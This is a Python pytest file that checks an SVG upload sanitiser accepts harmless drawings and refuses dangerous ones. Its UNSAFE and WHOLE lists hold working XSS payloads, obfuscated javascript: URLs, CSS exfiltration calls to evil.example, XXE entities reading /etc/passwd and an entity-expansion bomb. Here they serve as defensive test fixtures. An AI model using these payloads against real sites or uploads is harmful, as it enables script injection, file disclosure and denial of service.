"""An SVG only shows itself."""

import asyncio
from contextlib import suppress

import pytest

from banyan.files import UnsafeSvg
from banyan.kit.problems import TooLarge
from banyan.kit.storage import Storage
from tests.files.uploads import SVG, look_at

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
PIXEL = "data:image/png;base64,iVBORw0KGgo="

SAFE = [
    '<defs><linearGradient id="a"/></defs><rect fill="url(#a)" style="stroke:url( \'#a\' )"/>',
    f'<g {XLINK}><use xlink:href="#a"/><image xlink:href="{PIXEL}"/><use href="#a"/></g>',
    "<style>.a{fill:red} .b{mask:url(#m)} /* url(#c) */</style>",
    '<a href="https://trees.example/"><text>Trees</text></a>',
    '<a href="mailto:ada@trees.example"><text>Ada</text></a>',
    "<desc>It says javascript: and onload, but does nothing.</desc>",
    "<foreignObject><switch/></foreignObject>",
    '<animate attributeName="opacity" values="0;1" dur="2s"/>',
    '<g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="x" inkscape:onlooker="y"/>',
    '<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><x r:about="https://x.example"/></r:RDF>',
    '<path d="M0,0 l1,1" transform="translate(1,2) matrix(1 0 0 1 0 0)" clip-path="url(#c)"/>',
    f"<style>@font-face{{src:url({PIXEL})}}</style>",
]
UNSAFE = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
    '<script href="https://evil.example/x.js"/>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    '<g onclick="alert(1)"/>',
    '<g ONLOAD="alert(1)"/>',
    '<animate onbegin="alert(1)"/>',
    '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>',
    '<foreignObject><div xmlns="">x</div></foreignObject>',
    '<foreignObject><g><p xmlns="http://www.w3.org/1999/xhtml">x</p></g></foreignObject>',
    '<iframe src="https://evil.example"/>',
    '<image href="https://evil.example/track.png"/>',
    f'<image {XLINK} xlink:href="//evil.example/track.png"/>',
    '<image href="track.png"/>',
    '<image href="/api/v1/me"/>',
    '<use href="other.svg#a"/>',
    '<use href="data:image/svg+xml,%3Csvg%3E#a"/>',
    '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
    '<image href="data:text/html,x"/>',
    '<feImage href="http://evil.example/x"/>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    f'<a {XLINK} xlink:href="JAVASCRIPT:alert(1)">x</a>',
    '<a id="a"><set attributeName="href" to="javascript:alert(1)"/></a>',
    '<a id="a"><animate attributeName="xlink:href" values="#;https://evil.example"/></a>',
    '<set attributeName="onmouseover" to="alert(1)"/>',
    '<animate values="javascript:alert(1)"/>',
    '<g fill="url(https://evil.example/#a)"/>',
    "<g style=\"fill:url('//evil.example/a')\"/>",
    '<g style="fill:\\75rl(https://evil.example/a)"/>',
    '<g style="fill:u\\72 l(https://evil.example/a)"/>',
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>@im\\70ort 'https://evil.example/a.css';</style>",
    '<style>g{fill:URL( "https://evil.example/a" )}</style>',
    "<style>a{content:'/*'} g{fill:url(https://evil.example/a)} b{content:'*/'}</style>",
    "<style>g{background:image-set('https://evil.example/a' 1x)}</style>",
    "<style><![CDATA[@import url(https://evil.example/a.css);]]></style>",
    '<g xml:base="https://evil.example/"><use href="#a"/></g>',
    "<handler>x</handler>",
]
WHOLE = [
    '<?xml-stylesheet href="https://evil.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<!DOCTYPE svg [<!ENTITY a "x">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
    '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * 300 + "</g>" * 300 + "</svg>",
]
BILLION = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))


@pytest.mark.parametrize("content", SAFE)
async def test_a_picture_is_taken(storage: Storage, content: str) -> None:
    assert await look_at(storage, "a.svg", SVG.format(content).encode()) == "image/svg+xml"


async def test_a_picture_as_drawing_programs_write_it_is_taken(storage: Storage) -> None:
    head = (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with a drawing program -->\n'
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    )
    for encoding in ("utf-8", "utf-8-sig", "utf-16"):
        body = head.replace("UTF-8", encoding.upper().removesuffix("-SIG")) + SVG.format("<title>Bäume</title>")
        assert await look_at(storage, "a.svg", body.encode(encoding)) == "image/svg+xml"


@pytest.mark.parametrize("content", UNSAFE)
async def test_a_picture_that_could_do_more_is_refused(storage: Storage, content: str) -> None:
    with pytest.raises(UnsafeSvg) as refused:
        await look_at(storage, "a.svg", SVG.format(content).encode())
    assert (refused.value.status, refused.value.code) == (422, "unsafe_svg")
    assert refused.value.detail


@pytest.mark.parametrize("body", WHOLE)
async def test_a_document_that_does_more_than_its_picture_is_refused(storage: Storage, body: str) -> None:
    for encoding in ("utf-8", "utf-16"):
        with pytest.raises(UnsafeSvg):
            await look_at(storage, "a.svg", body.encode(encoding))
    with pytest.raises(UnsafeSvg):
        await look_at(storage, "drawing", body.encode())


async def test_a_bomb_does_not_go_off(storage: Storage) -> None:
    bomb = f'<!DOCTYPE svg [<!ENTITY l0 "boom">{BILLION}]><svg xmlns="http://www.w3.org/2000/svg">&l8;</svg>'
    async with asyncio.timeout(2):
        with pytest.raises(UnsafeSvg):
            await look_at(storage, "a.svg", bomb.encode())


async def test_a_picture_made_to_be_slow_to_read_is_read_in_time(storage: Storage) -> None:
    for style in ("/*" * 500_000, "url(" * 250_000, "\\" * 500_000, "@" * 500_000):
        async with asyncio.timeout(5):
            with suppress(UnsafeSvg):
                await look_at(storage, "a.svg", SVG.format(f"<style>{style}</style>").encode())


async def test_an_svg_is_at_most_four_mebibytes(storage: Storage) -> None:
    with pytest.raises(TooLarge):
        await look_at(storage, "a.svg", SVG.format("<g/>" * (1 << 20)).encode())
